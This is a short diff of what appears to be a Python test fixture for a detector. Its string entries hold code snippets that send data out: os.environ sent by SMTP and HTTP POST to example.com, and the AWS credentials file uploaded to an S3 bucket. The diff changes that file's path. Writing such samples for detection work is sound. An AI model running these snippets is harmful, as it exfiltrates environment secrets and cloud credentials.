@@ -363,7 +363,7 @@ smtplib.SMTP('example.com').sendmail('a', 'b', str(os.environ))
 httpx.post('https://example.com/', json={**os.environ})
 """,
     "keys_to_a_bucket": """import boto3
-boto3.client('s3').upload_file('/root/.aws/credentials', 'bucket', 'key')
+boto3.client('s3').upload_file('~/.aws/credentials', 'bucket', 'key')
 """,
     "class_in_a_class": """import os
 class A:
